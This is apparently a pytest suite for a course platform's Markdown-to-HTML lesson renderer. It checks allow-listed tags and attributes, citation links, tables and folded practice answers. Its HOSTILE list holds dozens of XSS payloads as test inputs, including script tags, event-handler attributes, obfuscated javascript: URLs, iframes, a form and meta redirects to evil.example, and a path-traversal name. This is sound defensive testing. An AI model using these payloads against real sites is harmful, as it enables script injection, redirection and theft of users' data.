"""What Markdown becomes: the blocks of a lesson, and nothing that could act, load or lead away."""

import re
from html.parser import HTMLParser

import pytest

from courses.catalog.render import as_markup, cleaned, intro_html, lesson_html
from courses.catalog.rules import Document, Register, Source
from tests.groups import ROOT

REGISTER = Register(
    source=Source(key="TQ-2022", title="t", publisher="p", date="2022-04-22", address="a", lines=["L7", "L12", "L16"]),
    documents={
        "QD-749": Document(
            title="Quyết định <749>", issued="3-6-2020", address="mic.gov.vn/a", confidence="B", note="trích đoạn"
        )
    },
)
FIGURES = {"timeline": '<svg class="fig" viewBox="0 0 9 9"><title>Các mốc</title><path d="M0 0h9"/></svg>'}


def render(body: str) -> str:
    return lesson_html(body, register=REGISTER, figures=FIGURES)


class Elements(HTMLParser):
    """Every element with its attributes, and every element that was left open or closed twice."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


ALLOWED: dict[str, set[str]] = {
    "a": {"href", "class", "aria-label"},
    "div": {"class", "tabindex", "role", "aria-label"},
    "th": {"scope", "class"},
    "td": {"class", "data-label"},
    "table": {"class"},
    "ol": {"start"},
    "p": {"class"},
    "span": {"class"},
    "section": {"class"},
    **{tag: set() for tag in ("h2", "h3", "strong", "em", "br", "ul", "li", "blockquote", "footer", "code")},
    **{tag: set() for tag in ("thead", "tbody", "tr", "details", "summary", "figure", "figcaption")},
}
CLASSES = {"cite", "chip", "table-scroll", "practice", "extension", "extension__source", "numeric", "stack"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0b>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">bấm</a>',
    '<p onclick="alert(1)" style="color:red" class="banner">x</p>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<form action=//evil.example><input name=csrf_token></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!-- --><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "[bấm](javascript:alert(1))",
    "[bấm](JaVaScRiPt:alert(1))",
    "[bấm](java&#115;cript:alert(1))",
    "[bấm](&#x6A;avascript&#58;alert(1))",
    "[bấm](java\tscript:alert(1))",
    "[bấm](vbscript:msgbox(1))",
    "[bấm](data:text/html;base64,PHNjcmlwdD4=)",
    "[bấm](https://evil.example/a?b=c 'onmouseover=alert(1)')",
    "[bấm](//evil.example)",
    "[bấm](#nguon-L16)",
    "[bấm][1]\n\n[1]: javascript:alert(1)",
    "[TQ-2022 L16]\n\n[TQ-2022 L16]: https://evil.example",
    "[TQ-2022 L16](https://evil.example)",
    "![](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](data:image/svg+xml,<svg/onload=alert(1)>)',
    "![x][2]\n\n[2]: https://evil.example/pixel.gif",
    "<https://evil.example/>",
    "<javascript:alert(1)>",
    "https://evil.example www.evil.example",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "## <img src=x onerror=alert(1)>\n\n| a |\n|---|\n| <b onclick=alert(1)>b</b> |",
    '## x" onfocus="alert(1)\n\n| a |\n|---|\n| b |',
    '| a |\n|:--:" onclick="alert(1)|\n| b |',
    "::: practice <script>alert(1)</script>\n<img src=x onerror=alert(1)>\n:::",
    '::: practice " onclick="alert(1)\n| a |\n|---|\n| b |\n:::',
    "::: extension QD-749\n<script>alert(1)</script>\n:::",
    "::: extension __class__\n<script>alert(1)</script>\n:::",
    "::: figure timeline\n<script>alert(1)</script> [x](javascript:alert(1))\n:::",
    "::: figure ../../../etc/passwd\n<svg onload=alert(1)>\n:::",
    "::: raw\n<script>alert(1)</script>\n:::",
    "::: practice a\n::: figure timeline\n<script>alert(1)</script>\n:::\n:::",
    '<figure data-figure="timeline">',
    "> <script>alert(1)</script> [TQ-2022 L16]",
    "1. <script>\n2. alert(1)\n3. </script>",
    "**<script>**alert(1)**</script>**",
    "\u202e<script>alert(1)</script>\u202c",
    "<\u0000script>alert(1)</script>",
    "\ufeff<scr\u200bipt>alert(1)</scr\u200bipt>",
    "＜script＞alert(1)＜/script＞",
    "<x/onmouseover=alert(1)>",
    "<a\nhref\n=\njavascript:alert(1)>x</a>",
]


@pytest.mark.parametrize("body", HOSTILE)
def test_hostile_text_becomes_nothing_but_listed_tags_attributes_and_addresses(body: str) -> None:
    for html in (render(body), intro_html(body), cleaned(body)):  # the cleaning must hold by itself, too
        elements = Elements(html.replace(FIGURES["timeline"], ""))
        assert elements.open == []
        for tag, attributes in elements.found:
            assert tag in ALLOWED, html
            assert attributes.keys() <= ALLOWED[tag], html
            assert set((attributes.get("class") or "").split()) <= CLASSES, html
            assert (attributes.get("href") or "#nguon-L1").startswith("#nguon-L"), html
            assert attributes.get("role") in (None, "region"), html


def test_words_of_links_and_pictures_stay_but_lead_nowhere() -> None:
    html = render("Xem [trang của tỉnh](https://tuyenquang.gov.vn) và ![ảnh hội nghị](https://a.example/b.jpg).")
    assert html == "<p>Xem trang của tỉnh và ảnh hội nghị.</p>\n"


def test_citations_lead_to_the_sources_of_the_page() -> None:
    html = render("Tỉnh mở hội nghị [TQ-2022 L7, L12].")
    assert 'hội nghị <a class="cite" href="#nguon-L7" aria-label="Nguồn L7">[L7]</a>' in html
    assert '<a class="cite" href="#nguon-L12"' in html
    assert intro_html("Tỉnh mở hội nghị [TQ-2022 L7, L12].").count("<a") == 0


def test_the_model_answer_is_behind_a_fold() -> None:
    html = render(
        "::: practice Một việc\nKể.\n\n**Câu hỏi suy ngẫm.** Gì?\n\n**Trả lời mẫu.** Thế này.\n\nVà nữa.\n:::"
    )
    shown, folded = html.split("<details>")
    assert shown.startswith('<section class="practice"><h2>Liên hệ thực tiễn: Một việc</h2>')
    assert "Câu hỏi suy ngẫm." in shown
    assert folded.startswith("<summary>Trả lời mẫu</summary>")
    assert "Thế này." in folded
    assert "Và nữa." in folded
    assert "Trả lời mẫu." not in html


def test_an_extension_names_its_document_and_how_far_to_trust_it() -> None:
    html = render("::: extension QD-749\nMột điều khác.\n:::")
    assert "Mở rộng – nguồn ngoài bản tin" in html
    assert "<strong>Quyết định &lt;749&gt;</strong>" in html
    assert '<span class="chip">Mức tin cậy B: báo chí hoặc trang pháp luật tóm tắt</span>' in html
    for told in ("3-6-2020", "Địa chỉ: mic.gov.vn/a", "Ghi chú: trích đoạn"):
        assert told in html


def test_a_drawing_is_put_in_as_it_is_once_with_its_caption() -> None:
    body = "::: figure timeline\nNăm mốc [TQ-2022 L16].\n:::\n"
    html = render(body + body)
    assert html.count(FIGURES["timeline"]) == 1
    assert '<figcaption>Năm mốc <a class="cite" href="#nguon-L16"' in html


def test_a_quotation_ends_with_where_it_comes_from() -> None:
    html = render("> vừa cấp bách, vừa lâu dài [TQ-2022 L16]")
    assert "<p>vừa cấp bách, vừa lâu dài</p>\n<footer>Trích bản tin <a" in html


def test_a_table_scrolls_under_a_name_of_its_own() -> None:
    table = "| | Số |\n|---|---:|\n| a | 1 |\n"
    html = render(f"## Đầu đề *một*\n\n{table}\n{table}")
    assert 'tabindex="0" role="region" aria-label="Bảng 1: Đầu đề một"><table>' in html
    assert 'aria-label="Bảng 2: Đầu đề một"' in html
    assert '<td></td>\n<th scope="col" class="numeric">Số</th>' in html
    assert '<td class="numeric">1</td>' in html


def test_a_table_of_three_columns_can_stand_in_blocks_each_cell_under_the_word_of_its_column() -> None:
    html = render('| Vấn đề | Điều "đã" biết | Câu hỏi |\n|---|---|---|\n| Hạ tầng | Sóng 4G | Chỗ nào yếu? |\n')
    assert '<table class="stack">' in html
    assert "<td>Hạ tầng</td>" in html
    assert '<td data-label="Điều &quot;đã&quot; biết">Sóng 4G</td>' in html
    assert '<td data-label="Câu hỏi">Chỗ nào yếu?</td>' in html
    assert "<table>" in render("| a | b |\n|---|---|\n| 1 | 2 |\n")


def test_the_cells_of_a_table_of_many_columns_carry_their_headings() -> None:
    html = render('| Mốc | *Đến* "2025" | Nơi |\n|---|---|---:|\n| a | b | c |\n| d | | e |\n')
    assert '<table class="stack">' in html
    assert html.count('<td data-label="Đến &quot;2025&quot;">') == 2
    assert '<td class="numeric" data-label="Nơi">e</td>' in html
    assert "<script" not in render('| a | b | <script>x</script>"onclick= |\n|---|---|---|\n| 1 | 2 | 3 |\n')
    narrow = render("| a | b |\n|---|---|\n| 1 | 2 |\n")
    assert "stack" not in narrow
    assert "data-label" not in narrow


@pytest.mark.parametrize(("written", "level"), [("#", 2), ("##", 2), ("###", 3), ("####", 3)])
def test_headings_stay_below_the_title_of_the_page(written: str, level: int) -> None:
    assert render(f"{written} Đầu đề") == f"<h{level}>Đầu đề</h{level}>\n"


def test_text_becomes_markup_at_one_place_only() -> None:
    assert as_markup(render("a")).__html__() == "<p>a</p>\n"
    packages = [ROOT / name for name in ("lms", "courses", "assessments", "analytics")]
    code = [path for package in packages for path in package.rglob("*.py") if "Markup(" in path.read_text("utf-8")]
    unescaped = re.compile(r"\|\s*safe\b|autoescape\s+false")
    templates = [
        path for package in packages for path in package.rglob("*.html") if unescaped.search(path.read_text("utf-8"))
    ]
    assert [str(path.relative_to(ROOT)) for path in code + templates] == ["courses/catalog/render.py"]
